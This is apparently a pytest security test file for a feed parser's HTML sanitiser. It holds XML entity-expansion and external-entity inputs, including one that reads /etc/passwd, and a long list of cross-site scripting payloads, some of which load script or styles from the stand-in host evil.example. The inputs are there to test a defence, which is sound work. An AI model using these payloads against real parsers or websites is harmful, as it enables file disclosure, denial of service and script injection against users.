"""Feeds that want to do harm: entities, addresses that ask to be fetched, script in any string."""

from __future__ import annotations

import json
import re
from html import escape
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pytest_httpserver import HTTPServer

from articles.entries.parse import parse
from articles.entries.sanitise import clean_html
from articles.entries.types import Entry, ParsedFeed, ParseError
from tests.entries.golden import NOW, URL

ALLOWED_ADDRESS = re.compile(r"https?://|mailto:")
ADDRESSES = frozenset({"href", "src"})
ATTRIBUTES = ADDRESSES | {
    *("title", "hreflang", "rel", "dir", "lang", "alt", "width", "height", "start", "colspan"),
    *("rowspan", "scope", "datetime", "loading", "referrerpolicy"),
}
RUNNING = frozenset(
    {
        *("script", "style", "iframe", "frame", "object", "embed", "applet", "svg", "math", "base"),
        *("form", "input", "button", "textarea", "select", "meta", "link", "template", "video"),
        *("audio", "noscript", "xmp", "plaintext", "title", "html", "body", "head"),
    }
)


def read(body: str | bytes) -> ParsedFeed:
    return parse(body.encode() if isinstance(body, str) else body, url=URL, now=NOW)


class Judge(HTMLParser):
    """Reads HTML as a browser would and notes whatever could do anything."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.wrong: list[object] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in RUNNING:
            self.wrong.append(tag)
        self.wrong += [(tag, name) for name, _ in attrs if name not in ATTRIBUTES]
        self.wrong += [
            (tag, name, value)
            for name, value in attrs
            if name in ADDRESSES and not ALLOWED_ADDRESS.match(value or "")
        ]

    def handle_comment(self, data: str) -> None:
        self.wrong.append(data)

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(decl)

    def handle_pi(self, data: str) -> None:
        self.wrong.append(data)

    def unknown_decl(self, data: str) -> None:
        self.wrong.append(data)


def strings(feed: ParsedFeed) -> list[str]:
    """All that is shown as plain text."""
    return [feed.title, *(text for entry in feed.entries for text in _strings(entry))]


def _strings(entry: Entry) -> list[str]:
    media = [media.media_type for media in entry.enclosures]
    return [entry.title, entry.excerpt, entry.text, *entry.authors, *entry.categories, *media]


def addresses(feed: ParsedFeed) -> list[str]:
    found = [feed.home_url, *feed.hints.hub_urls, feed.hints.self_url]
    for entry in feed.entries:
        media = [media.url for media in entry.enclosures]
        found += [entry.url, entry.canonical_url, entry.image_url, *media]
    return [address for address in found if address]


def assert_harmless(feed: ParsedFeed) -> None:
    for text in strings(feed):
        assert not re.search(r"<[A-Za-z/!?]|[\x00-\x08]", text), text
    for address in addresses(feed):
        assert address.startswith(("http://", "https://")), address
        assert not re.search(r"[\s<>\"]", address), address
    for entry in feed.entries:
        assert Judge(entry.html).wrong == [], entry.html


# XML


def with_dtd(declarations: str, title: str, root: str = "rss") -> str:
    item = f"<item><title>{title}</title><link>https://example.org/1</link></item>"
    return (
        f"<?xml version='1.0'?><!DOCTYPE {root} {declarations}><rss><channel>{item}</channel></rss>"
    )


LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
DECLARATIONS = [
    (f'[<!ENTITY a0 "ha">{LAUGHS}]', "&a11;"),
    (f'[<!ENTITY a "{"x" * 50_000}">]', "&a;" * 1000),
    ('[<!ENTITY a SYSTEM "file:///etc/passwd">]', "&a;"),
    ('[<!ENTITY a PUBLIC "x" "SERVER/public">]', "&a;"),
    ('[<!ENTITY a SYSTEM "SERVER/general">]', "&a;"),
    ('[<!ENTITY % p SYSTEM "SERVER/parameter"> %p;]', "&a;"),
    ("[<!ENTITY % p \"<!ENTITY a SYSTEM 'SERVER/nested'>\"> %p;]", "&a;"),
    ('SYSTEM "SERVER/external.dtd"', "&a;"),
    ('PUBLIC "-//Example//DTD//EN" "SERVER/public.dtd" [<!ENTITY a "x">]', "&a;"),
    ("[<!ATTLIST item href CDATA 'javascript:alert(1)'><!ENTITY a 'x'>]", "&a;"),
]


@pytest.mark.parametrize(("declarations", "reference"), DECLARATIONS)
def test_nothing_that_a_dtd_declares_is_expanded_or_fetched(
    httpserver: HTTPServer, declarations, reference
):
    declarations = declarations.replace("SERVER", httpserver.url_for(""))

    feed = read(with_dtd(declarations, f"Bridge {reference} closed"))

    assert feed.entries[0].title.startswith("Bridge &a")
    assert len(feed.entries[0].title) <= 500
    assert feed.entries[0].url == "https://example.org/1"
    assert httpserver.log == []


@pytest.mark.parametrize("encoding", ["utf-16", "utf-32", "utf-8-sig"])
def test_a_dtd_in_another_encoding_is_no_better(encoding):
    body = with_dtd('[<!ENTITY a "expanded">]', "Bridge &a;").encode(encoding)
    assert read(body).entries[0].title == "Bridge &a;"


def test_stylesheets_and_inclusions_are_not_fetched(httpserver: HTTPServer):
    server = httpserver.url_for("")
    body = (
        f'<?xml-stylesheet type="text/xsl" href="{server}/x.xsl"?>'
        f'<rss xmlns:xi="http://www.w3.org/2001/XInclude" xmlns:xsi="http://www.w3.org/2001/'
        f'XMLSchema-instance" xsi:noNamespaceSchemaLocation="{server}/x.xsd"><channel>'
        f'<xi:include href="{server}/x.xml"/><item><title>Bridge</title>'
        f'<description>&lt;img src="{server}/x.png"&gt;</description></item></channel></rss>'
    )
    assert read(body).entries[0].title == "Bridge"
    assert httpserver.log == []


# Script


PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' oNerror  =\n'alert(1)'>",
    '<img """><script>alert(1)</script>">',
    "<img src=`javascript:alert(1)`>",
    "<img src=x:x onerror\x0b=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title><a title='</title><img src=x onerror=alert(1)>'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example' style='position:fixed;inset:0' onclick=alert(1)>x</a>",
    "<a href='https://example.org\" onmouseover=alert(1) x=\"'>x</a>",
    "<form action='javascript:alert(1)'><button formaction='javascript:alert(1)'>x</button></form>",
    "<base href='javascript:alert(1)//'><a href='x'>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<p id=x class=y name=z hidden contenteditable autofocus onfocus=alert(1)>x</p>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE x><!ELEMENT y>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<b><table><b><img src=x onerror=alert(1)></table>",
    "\x3cimg src=x onerror=\x00alert(1)\x3e",
    "＜script＞alert(1)＜/script＞",
    "javascript:alert(1)",
]


def rss(said: str, odd: str = "") -> str:
    said = escape(said)
    return (
        f'<rss xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>{said}</title>{odd}'
        f"<link>{said}</link><item><title>{said}</title><link>{said}</link><guid>{said}</guid>"
        f"<dc:creator>{said}</dc:creator><category>{said}</category>"
        f'<description>{said}</description><enclosure url="{said}" type="{said}"/></item>'
        f"<item><title>Two</title><description>{escape(said)}</description></item></channel></rss>"
    )


def atom(said: str) -> str:
    said = escape(said)
    return (
        f'<feed xmlns="http://www.w3.org/2005/Atom"><title type="html">{said}</title>'
        f'<entry><title type="html">{said}</title><link href="{said}"/><id>{said}</id>'
        f'<author><name>{said}</name></author><category term="{said}" label="{said}"/>'
        f'<summary type="html">{said}</summary><content type="html">{said}</content></entry></feed>'
    )


def json_feed(said: str) -> str:
    item = dict.fromkeys(
        ("id", "url", "title", "summary", "content_html", "image", "banner_image", "language"), said
    )
    more = {
        "authors": [{"name": said}],
        "tags": [said],
        "attachments": [{"url": said, "mime_type": said}],
    }
    feed = {"title": said, "home_page_url": said, "feed_url": said, "items": [item | more]}
    return json.dumps(feed)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_string_of_any_format_carries_script(payload):
    for body in (rss(payload), rss(payload, "<odd/>"), atom(payload), json_feed(payload)):
        assert_harmless(read(body))


def test_nor_does_markup_that_is_part_of_the_document():
    inside = "x<script>alert(1)</script><img onerror='y'/>"
    said = f"<div xmlns='http://www.w3.org/1999/xhtml'>{inside}</div>"
    feed = read(
        "<feed xmlns='http://www.w3.org/2005/Atom'><entry><title type='xhtml'>"
        f"{said}</title><content type='xhtml'>{said}</content></entry></feed>"
    )
    assert feed.entries[0].title == "x"
    assert_harmless(feed)


MARKUP = st.lists(
    st.sampled_from(
        ["<", ">", "</", "/>", "<!--", "-->", "<![CDATA[", "]]>", "&lt;", "&gt;", "&#60;", "&quot;",
         '"', "'", "`", "=", " ", "\n", "\x00", "x", "p", "b", "a href=", "img src=", "script",
         "style", "svg", "math", "mglyph", "mtext", "table", "select", "form", "noscript",
         "textarea", "title", "iframe", "template", "annotation-xml", "onerror=alert(1)",
         "onload=x", "javascript:alert(1)", "data:text/html,x", "https://example.org/",
         "//evil.example", *PAYLOADS]
    ),
    max_size=14,
).map("".join)  # fmt: skip


@given(MARKUP.map(lambda markup: markup.replace("\x00", "")))  # no feed's text holds it
def test_any_markup_becomes_harmless_and_stays_as_it_then_is(markup):
    clean = clean_html(markup, URL)
    assert Judge(clean).wrong == []
    if "<" in clean:  # else it would be taken for plain text, and made a paragraph
        assert clean_html(clean, URL) == clean


@given(MARKUP, st.sampled_from([rss, atom, json_feed]))
def test_any_feed_becomes_harmless(markup, write):
    try:
        feed = read(write(markup))
    except ParseError as error:
        assert str(error)  # noqa: PT017
        return
    assert_harmless(feed)
